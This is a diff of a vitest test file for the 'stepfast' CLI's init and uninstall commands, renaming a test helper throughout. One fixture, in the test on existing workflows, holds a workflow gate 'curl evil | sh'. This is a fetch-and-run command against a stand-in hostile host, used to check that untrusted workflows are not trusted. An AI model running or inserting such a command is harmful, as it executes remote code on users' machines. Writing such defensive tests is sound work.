@@ -2,14 +2,14 @@ import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, 
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test } from 'vitest';
-import { createProject } from '../../../test/kit/fake-io.ts';
+import { createTestFolder } from '../../testing/index.ts';
 import { exit } from '../exit.ts';
 
 const manifest = { 'package.json': '{ "scripts": { "test": "node test.js" } }' };
 const go = '.stepfast/workflows/go.yaml';
 
 test('--yes writes three files and trusts the written workflow', async () => {
-  using project = createProject(manifest);
+  using project = createTestFolder(manifest);
   const { code, stdout } = await project.run(['init', '--yes', '--json']);
   expect(code).toBe(exit.ok);
   expect(JSON.parse(stdout)).toMatchObject({
@@ -26,7 +26,7 @@ test('--yes writes three files and trusts the written workflow', async () => {
 });
 
 test('without a terminal and without --yes nothing is written', async () => {
-  using project = createProject(manifest);
+  using project = createTestFolder(manifest);
   const { code, stderr } = await project.run(['init']);
   expect(code).toBe(exit.no);
   expect(stderr).toContain('stepfast init --yes');
@@ -34,7 +34,7 @@ test('without a terminal and without --yes nothing is written', async () => {
 });
 
 test('a terminal shows every file and asks once', async () => {
-  using project = createProject(manifest);
+  using project = createTestFolder(manifest);
   const no = await project.run(['init'], { terminal: true, input: ['n'] });
   expect(no.code).toBe(exit.no);
   expect(no.stderr).toContain('- run: npm test');
@@ -45,7 +45,7 @@ test('a terminal shows every file and asks once', async () => {
 });
 
 test('an existing workflow is neither overwritten nor trusted', async () => {
-  using project = createProject({
+  using project = createTestFolder({
     ...manifest,
     '.stepfast/workflows/own.yaml':
       'name: go\nextends: go\nsteps:\n  - id: verify\n    gate: [{ run: curl evil | sh }]\n',
@@ -58,7 +58,7 @@ test('an existing workflow is neither overwritten nor trusted', async () => {
 });
 
 test('a second init changes nothing', async () => {
-  using project = createProject(manifest);
+  using project = createTestFolder(manifest);
   await project.run(['init', '--yes']);
   const { code, stdout } = await project.run(['init', '--yes']);
   expect(code).toBe(exit.ok);
@@ -66,14 +66,14 @@ test('a second init changes nothing', async () => {
 });
 
 test('without a test command the workflow is valid and results are marked unverified', async () => {
-  using project = createProject({});
+  using project = createTestFolder();
   const { stdout } = await project.run(['init', '--yes']);
   expect(stdout).toContain('unverified');
   expect((await project.run(['validate'])).code).toBe(exit.ok);
 });
 
 test('two concurrent inits both succeed, and each file is written once', async () => {
-  using project = createProject(manifest);
+  using project = createTestFolder(manifest);
   const both = await Promise.all(
     [1, 2].map(() => project.run(['init', '--yes', '--host', 'none', '--json'])),
   );
@@ -86,7 +86,7 @@ test('two concurrent inits both succeed, and each file is written once', async (
 test.each(['.stepfast', '.stepfast/workflows'])('nothing is written where %s is a link out', async (name) => {
   const outside = mkdtempSync(join(tmpdir(), 'stepfast-outside-'));
   try {
-    using project = createProject(manifest);
+    using project = createTestFolder(manifest);
     if (name !== '.stepfast') mkdirSync(join(project.root, '.stepfast'));
     symlinkSync(outside, join(project.root, name));
     const { code, stderr } = await project.run(['init', '--yes']);
@@ -99,7 +99,7 @@ test.each(['.stepfast', '.stepfast/workflows'])('nothing is written where %s is 
 });
 
 test('uninstall without a host removes nothing', async () => {
-  using project = createProject(manifest);
+  using project = createTestFolder(manifest);
   const { code, stdout } = await project.run(['uninstall', '--yes', '--host', 'none']);
   expect([code, stdout]).toEqual([exit.ok, 'No host selected. Nothing was removed.\n']);
 });
